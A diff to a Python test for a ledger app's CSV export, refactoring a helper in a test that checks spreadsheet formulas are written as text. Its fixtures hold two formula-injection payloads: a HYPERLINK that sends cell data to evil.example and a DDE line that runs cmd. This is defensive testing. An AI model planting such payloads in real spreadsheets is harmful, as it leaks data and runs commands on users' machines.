@@ -14,7 +14,7 @@ from ledger.verifier.bundle import verify_bundle
 from ledger.verifier.spreadsheet import FORMULA_STARTS
 from tests import facts
 from tests.cli_runner import run_cli
-from tests.integration.test_export import World
+from tests.support import bundles
 
 FORMULA_REF = '=HYPERLINK("https://evil.example/?"&A1,"open")'
 FORMULA_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -47,11 +47,10 @@ def test_bundle_csvs_write_formulas_as_text_and_verify(
     ledger: LedgerApplication, settings: Settings, tmp_path: Path
 ) -> None:
     record_formulas(ledger)
-    world = World(ledger, settings, FORMULA_REF, "", "", "", "", "")
-    bundle = world.export(
-        {"kind": "subject", "subject": world.pseudonym(FORMULA_REF)}, tmp_path / "b"
-    )
-    verify_bundle(bundle, world.trusted())  # the verifier renders the same CSV bytes
+    scope = {"kind": "subject", "subject": ledger.subject_keys.pseudonym(FORMULA_REF)}
+    bundle = bundles.export(ledger, settings, scope, tmp_path / "b").path
+    # the verifier renders the same CSV bytes
+    verify_bundle(bundle, bundles.trusted(ledger, settings))
     consent = cells((bundle / "consent.csv").read_text())
     disclosures = cells((bundle / "disclosures.csv").read_text())
     for rows in (consent, disclosures):
